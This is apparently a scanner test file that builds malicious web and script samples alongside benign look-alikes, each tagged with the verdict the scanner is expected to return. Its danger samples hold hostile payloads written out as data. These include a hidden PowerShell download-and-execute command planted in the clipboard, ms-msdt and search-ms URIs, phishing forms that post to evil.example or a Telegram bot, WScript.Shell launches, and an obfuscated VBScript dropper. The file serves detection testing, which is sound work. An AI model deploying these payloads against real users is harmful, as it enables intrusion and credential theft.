import { png, zip } from '../../scanners/samples';
import type { Sample } from '../sample';

/** Pages and scripts with dangerous features, and harmless ones that look like them. */
export const samples = (): Sample[] => [...dangers(), ...benign()];

const page = (script: string, body = '<p>Your file is being fetched.</p>'): Buffer =>
  Buffer.from(
    `<!DOCTYPE html><html><head><title>File</title></head><body>${body}<script>${script}</script></body></html>`,
  );
const SAVE =
  'var f=new Blob([d],{type:"application/octet-stream"});var a=document.createElement("a");a.href=URL.createObjectURL(f);a.download="x.zip";a.click();';

function dangers(): Sample[] {
  const files: [string, string, string, Sample['expect']][] = [
    [
      'html: ms-msdt',
      'a.html',
      '<html><script>window.location.href = "ms-msdt:/id PCWDiagnostic /skip force";</script></html>',
      'malicious',
    ],
    [
      'html: search-ms',
      'a.html',
      '<a href="search-ms:query=a&crumb=location:\\\\evil.example\\x">Open</a>',
      'malicious',
    ],
    [
      'html: clipboard command',
      'a.html',
      '<html><body>Press Win+R<script>navigator.clipboard.writeText("powershell -w hidden -c \\"iwr https://evil.example/a | iex\\"")</script></body></html>',
      'malicious',
    ],
    [
      'html: password to bot',
      'a.html',
      '<html><form id=f><input type=password></form><script>fetch("https://api.telegram.org/bot1:x/sendMessage")</script></html>',
      'malicious',
    ],
    [
      'html: password form',
      'a.html',
      '<html><form action="https://evil.example/p.php"><input name=u><input type="password"></form></html>',
      'suspicious',
    ],
    [
      'html: refresh',
      'a.html',
      '<html><meta http-equiv="refresh" content="0; url=https://evil.example/"></html>',
      'suspicious',
    ],
    ['html: redirect by script', 'a.html', '<script>location.replace("https://evil.example/x")</script>', 'suspicious'],
    [
      'html: veiled redirect',
      'a.html',
      `<script>window.location = atob("${Buffer.from('https://evil.example/login').toString('base64')}")</script>`,
      'refused',
    ],
    [
      'html: veiled page',
      'a.html',
      `<script>document.write(atob("${Buffer.from(`<html><form action="x"><input type=password></form>${'<p>Sign in to your account</p>'.repeat(20)}</html>`).toString('base64')}"))</script>`,
      'refused',
    ],
    ['hta', 'a.hta', '<html><hta:application id=a><body>Hi</body></html>', 'suspicious'],
    [
      'hta: shell',
      'a.hta',
      '<script language="VBScript">CreateObject("WSc" & "ript.Shell").Run "calc"</script>',
      'malicious',
    ],
    [
      'wsf',
      'a.wsf',
      '<job><script language="JScript"><![CDATA[ new ActiveXObject("WScript.Shell").Run("calc") ]]></script></job>',
      'malicious',
    ],
    [
      'sct',
      'a.sct',
      '<?XML version="1.0"?><scriptlet><registration progid="x"><script language="JScript">new ActiveXObject("WScript.Shell").Run("calc")</script></registration></scriptlet>',
      'malicious',
    ],
    [
      'xsl with script',
      'a.xsl',
      '<?xml version="1.0"?><stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script language="JScript"><![CDATA[ new ActiveXObject("WScript.Shell").Run("calc") ]]></ms:script></stylesheet>',
      'malicious',
    ],
    [
      'chm page',
      'a.htm',
      '<object classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11"><param name="Item1" value=",cmd.exe,/c calc"></object>',
      'malicious',
    ],
    [
      'svg: redirect',
      'a.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href="https://evil.example/"</script></svg>',
      'malicious',
    ],
    [
      'svg: veiled',
      'a.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>eval(atob(x));window.location=y</script></svg>',
      'malicious',
    ],
    [
      'svg: password form',
      'a.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form><input type="password"/></form></foreignObject></svg>',
      'suspicious',
    ],
    [
      'vbs: dropper in pieces',
      'a.vbs',
      'Set s = CreateObject("WSc" & "ript.Sh" & "ell")\r\nSet h = CreateObject(StrReverse("PTTHLMX.2LMXSM"))\r\nh.Open "GET", "http://evil.example/a", False\r\ns.Run "a.exe"',
      'malicious',
    ],
    [
      'ps1: in pieces',
      'a.ps1',
      '$c = New-Object ("Net.We"+"bClient"); & ("I"+"EX") $c.("Down"+"loadString")("http://evil.example/a")\npowershell -nop -w hidden',
      'refused',
    ],
  ];
  return files.map(([kind, name, text, expected]) => ({ kind, name, bytes: Buffer.from(text), expect: expected }));
}

function benign(): Sample[] {
  const analytics = `(function(i,s,o){i[o]=i[o]||function(){}})(window,document,'ga');document.write(unescape("%3Cscript src='https://www.google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`;
  const links = Array.from(
    { length: 400 },
    (_unused, at) => `<li><a href="https://shop${at}.example/p?id=${at}">Product ${at}</a></li>`,
  ).join('');
  const newsletter = `<!--[if mso]><table><tr><td><![endif]--><a href="https://click.mailer.example/x?u=1">www.shop.example</a><img src="https://t.mailer.example/o.gif" width=1 height=1><div style="display:none">preheader</div>${'<p>Offer of the week</p>'.repeat(40)}`;
  const files: [string, string, string | Buffer][] = [
    ['page', 'a.html', page(analytics, '<h1>Order confirmation</h1><p>Thanks for your order.</p>'.repeat(10))],
    ['newsletter', 'a.html', `<html><body>${newsletter}</body></html>`],
    ['many links', 'a.html', `<html><body><ul>${links}</ul></body></html>`],
    [
      'inline pictures',
      'a.html',
      `<html><body><img src="data:image/png;base64,${png().toString('base64')}"><p>Text</p></body></html>`,
    ],
    [
      'report with export',
      'a.html',
      page(
        'function save(rows){var b=new Blob([rows.join("\\n")],{type:"text/csv"});var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="report.csv";a.click()}',
        '<h1>Report</h1><table><tr><td>1</td></tr></table>',
      ),
    ],
    [
      'test report with data',
      'a.html',
      page(
        `window.report="data:application/zip;base64,${zip([{ name: 'report.json', data: Buffer.from('{}') }]).toString('base64')}";${SAVE.replace('.click()', '')}`,
        '<div id=root></div>',
      ),
    ],
    [
      'page of a manual that moved',
      'a.html',
      '<html><body><p>Redirecting to <a href="../x.html">x</a></p><script>location.replace("../x.html"+location.search)</script></body></html>',
    ],
    [
      'saved shop page',
      'a.html',
      '<!-- saved from url=(0023)https://shop.example/ --><html><body><form action="/search"><input name=q></form><a href="/basket">Basket</a><p>Welcome</p></body></html>',
    ],
    [
      'xhtml',
      'a.xhtml',
      '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Text</p></body></html>',
    ],
    [
      'drawing',
      'a.svg',
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><style>.a{fill:red}</style><path class="a" d="M0 0h9v9z"/><a href="https://example.com"><text>x</text></a></svg>',
    ],
    [
      'diagram with text',
      'a.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">Label</div></foreignObject></svg>',
    ],
    [
      'interactive chart',
      'a.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="init(evt)"><script><![CDATA[ function init(evt){details=document.getElementById("details").firstChild} function zoom(e){} ]]></script><g onclick="zoom(this)"/></svg>',
    ],
    [
      'library',
      'a.js',
      '(function(){"use strict";var a="abc"+"def";function f(x){return x.split("").reverse().join("")}module.exports={f:f,a:a}})();',
    ],
    ['admin script', 'a.ps1', 'param($Name)\nGet-Service -Name $Name | Where-Object { $_.Status -eq "Running" }\n'],
    [
      'build script',
      'build.bat',
      '@echo off\r\nset OUT=bin\r\nif not exist %OUT% mkdir %OUT%\r\nmsbuild /p:Configuration=Release\r\n',
    ],
    [
      'stylesheet',
      'a.xsl',
      '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><p/></xsl:template></xsl:stylesheet>',
    ],
    [
      'log with hashes',
      'a.log',
      Array.from({ length: 50 }, (_unused, at) => `2026-11-02 commit ${Buffer.alloc(32, at).toString('hex')} ok`).join(
        '\n',
      ),
    ],
    [
      'web token',
      'a.txt',
      `Bearer ${Buffer.from('{"alg":"HS256","typ":"JWT"}').toString('base64url')}.${Buffer.from('{"sub":"1234567890","name":"Anna","admin":true}').toString('base64url')}.c2ln`,
    ],
  ];
  return files.map(([kind, name, content]) => ({
    kind: `benign web: ${kind}`,
    name,
    bytes: Buffer.from(content),
    expect: 'clean',
  }));
}
